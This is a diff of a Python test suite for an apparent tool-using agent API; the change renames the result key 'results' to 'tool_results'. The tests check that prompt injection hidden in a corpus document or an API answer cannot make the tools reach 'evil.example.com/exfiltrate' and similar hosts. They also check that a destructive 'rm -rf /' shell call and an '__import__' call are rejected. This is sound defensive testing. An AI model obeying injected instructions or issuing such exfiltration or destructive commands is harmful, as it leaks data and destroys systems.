@@ -270,7 +270,7 @@ def test_control_characters_and_bidi_overrides_are_dropped_emoji_kept(api: httpx
     values = run(api, '\x00what\u202e is\u2066 calculator{"expression": "6*7"} \U0001f600\ufeff', critique=False)
     assert not {"\x00", "\u202e", "\u2066", "\ufeff"} & set(values["question"])
     assert "\U0001f600" in values["question"]
-    assert values["results"][0]["output"] == "42"
+    assert values["tool_results"][0]["output"] == "42"
 
 
 def test_lone_surrogates_and_invalid_json_are_rejected_with_422(api: httpx.Client) -> None:
@@ -289,7 +289,7 @@ def test_lone_surrogates_and_invalid_json_are_rejected_with_422(api: httpx.Clien
 
 def test_escaped_surrogate_pairs_and_other_scripts_work(api: httpx.Client) -> None:
     values = run(api, '\U0001f9ea 测试 اختبار calculator{"expression": "1+1"}', critique=False)
-    assert values["results"][0]["output"] == "2"
+    assert values["tool_results"][0]["output"] == "2"
 
 
 # --- prompt injection: the model obeys, the tools refuse ------------------------------------
@@ -300,8 +300,8 @@ def test_injection_in_a_corpus_document_cannot_reach_another_host(api: httpx.Cli
     # the scripted model follows it in the second round.
     values = run(api, 'search_knowledge{"query": "vendor portal sync supplier certificate note"} #obey #more #vague',
                  max_tool_rounds=2, max_refinements=0)  # fmt: skip
-    calls = [(r["name"], r["args"], r["error"]) for r in values["results"]]
-    assert calls[0][0] == "search_knowledge" and "evil.example.com" in values["results"][0]["output"]
+    calls = [(r["name"], r["args"], r["error"]) for r in values["tool_results"]]
+    assert calls[0][0] == "search_knowledge" and "evil.example.com" in values["tool_results"][0]["output"]
     assert calls[1:] == [
         ("http_api", {"path": "http://evil.example.com/exfiltrate"}, "path must start with '/', e.g. /orders/A1001")
     ]
@@ -313,7 +313,7 @@ def test_injection_in_an_api_answer_cannot_reach_another_host(
     _, hits = hostile_api
     hits.clear()
     values = run(api, 'http_api{"path": "/notes/latest"} #obey #more #vague', max_tool_rounds=2, max_refinements=0)
-    followed = {r["args"]["path"]: r["error"] for r in values["results"][1:]}
+    followed = {r["args"]["path"]: r["error"] for r in values["tool_results"][1:]}
     assert followed == {
         "http://evil.example.com/x": "path must start with '/', e.g. /orders/A1001",
         "//evil.example.com/y": "path may not contain '//'",
@@ -325,7 +325,7 @@ def test_injection_in_an_api_answer_cannot_reach_another_host(
 
 def test_a_model_that_ignores_its_tool_list_still_cannot_run_an_unknown_tool(api: httpx.Client) -> None:
     values = run(api, '!call shell{"cmd": "rm -rf /"} !call __import__{"name": "os"}', critique=False)
-    assert values.get("results", []) == []
+    assert values.get("tool_results", []) == []
     assert sorted(r["name"] for r in values["rejected_calls"]) == ["__import__", "shell"]
 
 
@@ -337,7 +337,7 @@ def test_calculator_dos_is_refused_quickly(api: httpx.Client, expression: str) -
     started = time.monotonic()
     values = run(api, f'calculator{{"expression": "{expression}"}}', critique=False)
     assert time.monotonic() - started < 10
-    result = values["results"][0]
+    result = values["tool_results"][0]
     assert result["name"] == "calculator" and result["error"] and result["output"] is None
 
 
